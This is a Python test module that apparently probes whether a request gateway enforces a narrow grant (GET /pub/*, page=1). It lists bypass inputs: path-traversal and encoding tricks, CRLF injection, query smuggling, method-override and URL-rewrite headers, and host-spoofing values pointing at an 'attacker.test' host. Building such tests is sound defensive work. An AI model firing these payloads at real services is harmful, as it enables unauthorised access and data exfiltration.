"""Another path, query or method than what was granted (GET /pub/*, POST /pub/*, page=1)."""

from inside import Family

family = Family("paths", __doc__)


def target(name, path, about=""):
    family.add(name, "parsed", lambda t: t.request("open.test", path.replace("MARK", t.mark)), about)


target("plain", "/secret/MARK", "not granted at all")
target("prefix-of-segment", "/publication/MARK")
target("dots", "/pub/../secret/MARK")
target("dot-segment", "/pub/./MARK")
target("dots-encoded", "/pub/%2e%2e/secret/MARK")
target("dots-half-encoded", "/pub/.%2e/secret/MARK")
target("dots-upper", "/pub/%2E%2E/secret/MARK")
target("slash-encoded", "/pub/..%2fsecret/MARK")
target("slash-encoded-inside", "/pub/x%2f..%2f..%2fsecret/MARK")
target("slash-encoded-first", "/pub%2f..%2fsecret/MARK")
target("two-slashes", "//secret/MARK")
target("two-slashes-host", "//attacker.test/pub/MARK")
target("backslash", "/pub/..\\secret/MARK")
target("backslash-encoded", "/pub/..%5csecret/MARK")
target("parameters", "/pub/..;/secret/MARK")
target("parameters-more", "/pub/..;a=b/secret/MARK")
target("nul", "/pub/MARK%00/x")
target("newline", "/pub/MARK%0d%0ax-a:1")
target("overlong", "/pub/%c0%ae%c0%ae/secret/MARK", "UTF-8 that is none: some decode it as dots")
target("fragment", "/pub/MARK#/../secret")
target("raw-byte", "/pub/MARK\xe9")
target("raw-tab", "/pub/MARK\t")
target("bad-escape", "/pub/MARK%zz")
target("bad-escape-end", "/pub/MARK%2")
target("wrong-u-escape", "/pub/%u002e%u002e/secret/MARK")
target("no-slash", "secret/MARK")
target("dots-at-end", "/pub/MARK/..")
target("question-encoded", "/secret/MARK%3f/pub/")
target("upper-prefix", "/PUB/MARK")
target("prefix-encoded", "/%70ub/../secret/MARK")
target("query-not-listed", "/pub/x?loot=MARK")
target("query-other-value", "/pub/x?page=MARK")
target("query-twice", "/pub/x?page=1&page=MARK")
target("query-semicolon", "/pub/x?page=1;loot=MARK")
target("query-encoded", "/pub/x?%70age=MARK")
target("query-empty-name", "/pub/x?=MARK")
target("query-no-value", "/pub/x?MARK")
target("query-question", "/pub/x??page=MARK")
target("long", "/pub/MARK" + "a" * 200000)


def method(name, verb, headers=(), path="/pub/MARK", body=None, about=""):
    def run(t):
        t.request("open.test", path.replace("MARK", t.mark), [(k, v.replace("MARK", t.mark)) for k, v in headers], verb, body)
    family.add("method-" + name, "parsed", run, about)


method("put", "PUT", body=b"loot")
method("delete", "DELETE")
method("trace", "TRACE")
method("track", "TRACK")
method("options-star", "OPTIONS", path="*", headers=[("x-mark", "MARK")])
method("lower", "get")
method("unknown", "EXFILTRATE")
method("propfind", "PROPFIND")
for header in ["x-http-method-override", "x-http-method", "x-method-override", "x_http_method_override"]:
    method(header, "POST", [(header, "DELETE")], body=b"")
for header in ["x-original-method", "X_HTTP_METHOD"]:
    method(header, "POST", [(header, "DELETE-MARK")], path="/pub/x", body=b"")
for header in ["x-original-url", "x-original-uri", "x-original-path", "x-rewrite-url", "x-forwarded-prefix", "x-forwarded-uri", "x-forwarded-path",
               "x-envoy-original-path", "x-override-url", "x-ms-original-url", "x-http-destinationurl"]:
    method(header, "GET", [(header, "/secret/MARK")], about="some hosts believe it more than the request")
for header in ["x-forwarded-host", "x-original-host", "x-host", "x-http-host-override", "x-forwarded-server", "x-envoy-original-host", "forwarded"]:
    method(header, "GET", [(header, "host=attacker-MARK.test")], path="/pub/x", about="and where they believe it more than `Host`")
